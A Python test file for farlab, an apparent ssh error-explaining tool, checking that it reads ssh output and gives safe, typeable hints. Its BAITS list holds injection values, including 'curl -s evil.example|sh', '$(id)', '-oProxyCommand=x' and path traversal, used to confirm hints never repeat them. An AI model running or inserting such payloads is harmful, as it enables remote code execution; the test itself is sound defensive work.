"""What ssh printed, file by file, against what farlab says of it; each file tells which version printed it."""

from __future__ import annotations

import json
import re
import time
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from farlab.advice import fill
from farlab.errors import FarlabError, every_error
from farlab.model import Target
from farlab.transport.noise import LONGEST_LINE, telling
from farlab.transport.said import Said
from farlab.transport.ssh.explain import SAFE, explain, explain_bootstrap, explain_query, no_program
from farlab.transport.ssh.local_rules import CONFIGURATION, PROGRAM, WAY
from farlab.transport.ssh.options import Resolved
from farlab.transport.ssh.rules import SSH
from farlab.transport.ssh.shell_rules import SHELL

FOLDER = Path(__file__).parent.parent / "cases" / "ssh"
RULES = (*PROGRAM, *CONFIGURATION, *WAY, *SSH, *SHELL)


def load() -> dict[str, dict[str, Any]]:
    """Every case by its name: one in each file, and the rows of `table.json`, whose keys are the same."""
    read = {path.stem: json.loads(path.read_text("utf-8")) for path in sorted(FOLDER.glob("*.json"))}
    rows = read.pop("table")
    return read | {row["name"]: row for row in rows}


CASES = load()


def explained(case: dict[str, Any]) -> FarlabError:
    """What farlab says of it. `query`: `ssh -G` printed it; `jump`, `proxy`: the configuration has one of these."""
    if case.get("query"):
        return explain_query(case["stderr"], case["exit_status"], "far")
    resolved = Resolved(hostname="far", port=22, proxy_jump=case.get("jump"), proxy_command=case.get("proxy"))
    logged_in = case.get("logged_in", True)
    kwargs = {"host": "far", "may_ask": case["may_ask"], "resolved": resolved, "is_logged_in": logged_in}
    return explain(case["stderr"], case["exit_status"], **kwargs)


@pytest.mark.parametrize("name", CASES)
def test_what_ssh_printed_is_understood(name: str) -> None:
    error, expected = explained(CASES[name]), CASES[name]["expect"]
    assert error.slug == expected["code"], error.message
    assert expected["message_contains"] in error.message
    assert expected["hint_contains"] in fill(error.hint, Target(host="far"))
    assert expected.get("detail_has", "") in error.detail
    if "detail_lacks" in expected:
        assert expected["detail_lacks"] not in error.detail


@pytest.mark.parametrize("name", CASES)
def test_the_detail_is_all_that_was_printed_but_noise(name: str) -> None:
    printed = CASES[name]["stderr"]
    detail = explained(CASES[name]).detail.splitlines()
    assert detail == telling(printed)[-40:]
    for line in detail:
        assert line in printed or len(line) == LONGEST_LINE


@pytest.mark.parametrize("name", CASES)
@pytest.mark.parametrize("banner", ["Ask Eve: the VPN sleeps\n", "   \x1b[1mhello\x1b[0m\n"])
def test_words_that_nobody_foresaw_are_shown(name: str, banner: str) -> None:
    case = CASES[name]
    error = explained({**case, "stderr": banner + case["stderr"]})
    assert error.slug == CASES[name]["expect"]["code"]
    assert telling(banner)[0] in error.detail


def test_every_case_names_the_version_that_printed_it() -> None:
    assert len(CASES) > 80
    assert all(case["version"] for case in CASES.values())


def test_every_rule_is_met_by_a_case() -> None:
    messages = [explained(case).message for case in CASES.values()]
    missing = {rule.message for rule in RULES if not any(map(_shape(rule.message).search, messages))}
    assert missing <= {"the login shell on `{host}` cannot find `sh`"}


def _shape(message: str) -> re.Pattern[str]:
    """A message with its places open, `{host}` also as another machine on the way."""
    escaped = re.escape(message).replace(r"`\{host\}`", "(?:`far`|the jump host)")
    return re.compile(re.sub(r"\\\{\w+\\\}", ".*", escaped))


@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule.message)
def test_every_hint_can_be_typed(rule: Any) -> None:
    assert rule.hint
    assert not rule.message.endswith(".")
    places = set(re.findall(r"\{(\w+)\}", rule.message + rule.hint))
    assert places <= {"host", "config", "told", *rule.pattern.groupindex}


@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule.message)
def test_what_was_printed_stands_in_a_hint_only_where_that_is_harmless(rule: Any) -> None:
    named = {name for name in rule.pattern.groupindex if f"{{{name}}}" in rule.hint}
    assert named <= set(SAFE)
    assert not named or rule.plain
    assert set(re.findall(r"\{\w+\}", rule.plain)) <= {"{config}"}


BAITS = [
    "x; curl -s evil.example|sh #", "$(id)", "`id`", "a b", "-oProxyCommand=x", "--", "../../etc/passwd", "'; id; '",
    "a\tb", "~/.bashrc", "/home/ada", "/home/ada/.bashrc", "/home/ada/.ssh/../.bashrc", "{farlab terminate HOST}", "é",
    "*", "a\\b", "x" * 5000, '"', "&", "evil.example/x", "/home/ada/.ssh/config;id", "/tmp/known_hosts;id", ">x",
    "\u202e",
]  # fmt: skip
SHAPES = [
    "@@@\n  ssh-keygen -f {0} -R {0}\nHost key for gpu1 has changed and you have requested strict checking.\n",
    '  ssh-keygen -f "/home/ada/.ssh/known_hosts" -R "{0}"\n'
    "Host key for gpu1 has changed and you have requested strict checking.\n",
    "  ssh-keygen -f x -R gpu1; {0}\nHost key for gpu1 has changed and you have requested strict checking.\n",
    "Host key for {0} has changed and you have requested strict checking.\n",
    "Bad owner or permissions on {0}\n",
    'Load key "{0}": bad permissions\nx@h: Permission denied (publickey).\n',
    "Unable to negotiate with h port 22: no matching cipher found. Their offer: {0}\n",
    "Unable to negotiate with h port 22: no matching key exchange method found. Their offer: {0},b\n",
    "No ED25519 host key is known for {0} and you have requested strict checking.\n",
    "Can't open user config file {0}: {0}\n",
    "no such identity: {0}: No such file or directory\nx@h: Permission denied (publickey).\n",
    "command-line line 0: {0}\n",
    "ssh: connect to host {0} port 22: {0}\n",
    "channel 0: open failed: {0}\nstdio forwarding failed\n",
]


@pytest.mark.parametrize("shape", SHAPES)
@pytest.mark.parametrize("may_ask", [True, False])
def test_no_bait_of_a_banner_is_advice(shape: str, may_ask: bool) -> None:
    """Whatever a host prints in the shape of ssh's own words: what our hint tells to type has nothing of it."""
    for bait in BAITS:
        error = explain(shape.format(bait), 255, host="far", may_ask=may_ask)
        for typed in re.findall("`([^`]*)`", error.hint):
            assert bait not in typed, (bait, error.hint)
        assert "`id`" not in error.message
        assert "curl" not in error.hint
        assert len(error.message) < 1000


def test_what_ssh_really_says_can_be_typed_as_it_stands() -> None:
    key = '  ssh-keygen -f "/home/ada/.ssh/known_hosts" -R "[gpu1]:2222"\n'
    changed = "Host key for [gpu1]:2222 has changed and you have requested strict checking.\n"
    error = explain(key + changed, 255, host="far", may_ask=True)
    assert '`ssh-keygen -f /home/ada/.ssh/known_hosts -R "[gpu1]:2222"`' in error.hint
    error = explain("Bad owner or permissions on /home/ada/.ssh/config\n", 255, host="far", may_ask=True)
    assert error.hint == "`chmod 600 /home/ada/.ssh/config`"


def test_nothing_of_a_terminal_survives() -> None:
    printed = "\x1b]0;title\x07\x1b[31mssh: connect to host a port 1: No route to host\x1b[0m\r\n\x07\x00\x9b31m"
    error = explain(printed, 255, host="far", may_ask=True)
    assert error.detail == "ssh: connect to host a port 1: No route to host"


@given(st.text(max_size=400), st.sampled_from([None, -15, -99, 0, 1, 90, 91, 127, 255]), st.booleans())
def test_whatever_is_printed_becomes_an_expected_error(printed: str, exit_status: int | None, may_ask: bool) -> None:
    error = explain(printed, exit_status, host="far", may_ask=may_ask)
    assert type(error) in every_error()
    assert error.message
    assert error.hint
    assert all(ch == "\n" or ch == "\t" or ch.isprintable() for ch in error.detail)


@pytest.mark.parametrize(
    "flood",
    [
        "x line 1: y\n",
        "ssh: Could not resolve hostname ",
        "\x1b]",
        "a" * 10,
        "Permission denied (",
        "\n",
        "@",
        "ssh: x\n",
        "noise\n",
    ],
)
def test_a_flood_is_read_in_little_time(flood: str) -> None:
    started = time.process_time()
    error = explain(flood * (5_000_000 // len(flood)), 255, host="far", may_ask=True)
    assert time.process_time() - started < 5  # a tenth of a second; where a rule looks back at each place, for hours
    assert len(error.detail) <= 40 * (LONGEST_LINE + 1)
    assert len(error.detail.splitlines()) <= 40


def test_only_the_bootstraps_own_statuses_are_stages() -> None:
    assert explain_bootstrap(0, "", "far") is None
    assert explain_bootstrap(255, "", "far") is None
    assert explain_bootstrap(None, "", "far") is None
    found = explain_bootstrap(90, "motd\n", "far")
    assert found is not None
    assert found.slug == "no-python"
    assert found.detail == "motd"


def test_errors_of_this_side_say_what_to_do() -> None:
    assert "openssh-client" in no_program("ssh").hint


def test_words_are_passed_on_line_by_line_a_question_once_it_is_left_so() -> None:
    said = Said()
    said.feed(b'Authenticated to far ([::1]:22) using "publickey".\r\nvisit \x1b[1mhttps://x\x1b[0m\r\nMFA co')
    assert said.take() == ["visit https://x"]
    said.feed(b"de: ")
    assert said.take() == []
    assert said.take() == ["MFA code: "]
    said.feed(b"\r".join(b"Waiting %d" % number for number in range(500)) + b"\r\nApproved\r\n")
    assert said.take() == ["Waiting 499", "Approved"]
    said.feed(b"x\n" * 5000)
    assert len(said.take()) + len(said.take()) < 300
    said.feed(b"debug\n" * 5000 + b"To sign in, open https://y\n")
    assert said.take()[-1] == "To sign in, open https://y", "what it waits for now comes last"
